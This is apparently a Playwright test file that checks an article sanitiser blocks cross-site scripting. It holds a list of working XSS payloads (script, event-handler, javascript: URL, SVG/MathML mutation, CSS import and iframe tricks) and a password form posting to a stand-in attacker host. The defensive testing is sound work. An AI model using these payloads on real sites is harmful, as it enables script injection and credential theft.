import type { Page } from '@playwright/test';
import { expect, test } from './e2e-test.ts';
import { articleCall, articleOf } from './resources-page.ts';

// Without the content security policy, only the sanitiser stops an attack.
test.use({ bypassCSP: true });

/** Serves articles with the given body. Returns the requests to other hosts, and the dialogs. */
async function serveArticle(page: Page, contents: () => string): Promise<string[]> {
  const foreign: string[] = [];
  await page.route(
    (url) => url.hostname !== 'localhost',
    (route) => {
      foreign.push(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '' });
    },
  );
  await page.route(articleCall, (route) => route.fulfill({ json: articleOf(contents()) }));
  page.on('dialog', (dialog) => {
    foreign.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return foreign;
}

const body = (page: Page) => page.getByRole('main').locator('article > div').last();
const run = "document.documentElement.dataset.ran='yes'";

const attacks = [
  `<script>${run}</script><script src="https://evil.example/a.js"></script>`,
  `<img src="/nothing.png" onerror="${run}"><img src=x onerror=${run}>`,
  `<p onmouseover="${run}" onclick="${run}">a</p><details open ontoggle="${run}">b</details>`,
  `<a href="javascript:${run}">a</a><a href=" java&#10;script:${run}">b</a>`,
  `<a href="data:text/html,<script>${run}</script>">a</a><iframe src="data:text/html,<script>parent.${run}</script>"></iframe><img src="data:image/svg+xml,<svg/>">`,
  `<svg onload="${run}"><a xlink:href="http://evil.example"><text>a</text></a><image href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#a"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<style>@import 'https://evil.example/s.css'; body{display:none}</style><p style="background:url(https://evil.example/b.png);position:fixed;inset:0">a</p><link rel="stylesheet" href="https://evil.example/l.css">`,
  `<iframe src="http://evil.example/f"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="//evil.example/f"></iframe><iframe></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  `<form action="https://evil.example/f"><input name="password"><button formaction="https://evil.example/b">Go</button></form>`,
  `<video src="https://evil.example/v" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src="/mark.svg" srcset="https://evil.example/i.png 2x" alt=""></picture><table background="https://evil.example/t.png"><tbody><tr><td background="https://evil.example/c.png">a</td></tr></tbody></table><img src="http://evil.example/h.png"><img src="//evil.example/r.png"><img src="/\\evil.example/w.png">`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript><p id="root" name="body">a</p>`,
];
const encoded = (html: string) =>
  html.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const forbidden =
  'script, style, svg, math, iframe, object, embed, form, input, button, video, base, meta, link, [style], [id], a[href]';

test('2.6 Article: sanitises the body, so that no attack runs or fetches', async ({ open, page }) => {
  const plain = (html: string) => `<p>Before</p>${html}<p>After</p>`;
  const all = attacks.join('');
  let contents = '';
  const foreign = await serveArticle(page, () => contents);
  for (contents of [
    plain(all),
    // These two change how a browser parses what follows.
    ...attacks.filter((attack) => /^<(math|noscript)/.test(attack)).map(plain),
    encoded(plain(all)),
    `<p>Before ${encoded(all)} After</p>`,
  ]) {
    await open('/resources/hostile');
    await expect(body(page)).toContainText('Before');
    await expect(body(page)).toContainText('After');
    for (const element of await body(page).locator('a, p, details').all())
      await element.dispatchEvent('click');
    await page.waitForLoadState('networkidle');
    const ran = await page.evaluate(() => document.documentElement.dataset.ran);
    expect({ contents, ran, foreign }).toEqual({ contents, ran: undefined, foreign: [] });
    await expect(page).toHaveURL('/resources/hostile');
    await expect(body(page).locator(forbidden), contents).toHaveCount(0);
  }
});

test('2.6 Article: keeps https links, frames, tables and entities', async ({ open, page, context }) => {
  const links = [
    'http://old.example',
    '//other.example',
    '/settings',
    'mailto:a@b.example',
    '#here',
    'ftp://x.example',
  ];
  const table =
    '<table class="x" border="9"><caption>Heights</caption><thead><tr><th scope="col">Gauge</th><th colspan="2">m</th></tr></thead><tbody><tr><td>Ōpārara</td><td>1</td><td>2</td></tr></tbody></table>';
  let contents = `<p><a href="https://good.example/x" target="_self">good</a>
    ${links.map((address) => `<a href="${address}">${address}</a>`).join(' ')}</p>${table}${table}
    <iframe src="https://player.example/1" srcdoc="<p>no</p>" onload="${run}" name="top" allow="camera"></iframe>`;
  const foreign = await serveArticle(page, () => contents);
  await open('/resources/hostile');
  await expect(body(page).locator('a[href]')).toHaveCount(1);
  for (const address of links) await expect(body(page)).toContainText(address);
  const first = page.getByRole('group', { name: 'Heights' }).first().getByRole('table', { name: 'Heights' });
  await expect(first.getByRole('columnheader')).toHaveText(['Gauge', 'm']);
  await expect(first.getByRole('columnheader').nth(1)).toHaveAttribute('colspan', '2');
  await expect(first.getByRole('cell')).toHaveText(['Ōpārara', '1', '2']);

  const frame = body(page).locator('iframe');
  await frame.scrollIntoViewIfNeeded();
  await expect.poll(() => foreign).toEqual(['https://player.example/1']);
  await expect(frame).toHaveAttribute('title', 'Embedded content');
  const sandbox = 'allow-scripts allow-same-origin allow-presentation allow-popups';
  await expect(frame).toHaveAttribute('sandbox', sandbox);
  for (const gone of ['srcdoc', 'onload', 'name', 'allow'])
    await expect(frame).not.toHaveAttribute(gone, /.*/);

  await context.route('https://good.example/**', (route) => route.fulfill({ body: 'Good' }));
  const opening = context.waitForEvent('page');
  await body(page).getByRole('link', { name: 'good' }).click();
  const opened = await opening;
  await expect(opened).toHaveURL('https://good.example/x');
  expect(await opened.evaluate(() => [opener, document.referrer])).toEqual([null, '']);

  // Entities are decoded, also doubled ones.
  const once = '<h1>Head</h1><p>Fish &amp; chips&nbsp;here &lt;b&gt;</p>';
  const doubled = '<h1>Head</h1><p>Fish &amp;amp; chips&amp;nbsp;here &amp;lt;b&amp;gt;</p>';
  for (contents of [once, doubled, encoded(doubled)]) {
    await page.reload();
    await expect(body(page).getByRole('heading', { level: 2 })).toHaveText('Head');
    expect(await body(page).locator('p').textContent(), contents).toBe('Fish & chips\u00a0here <b>');
  }
});
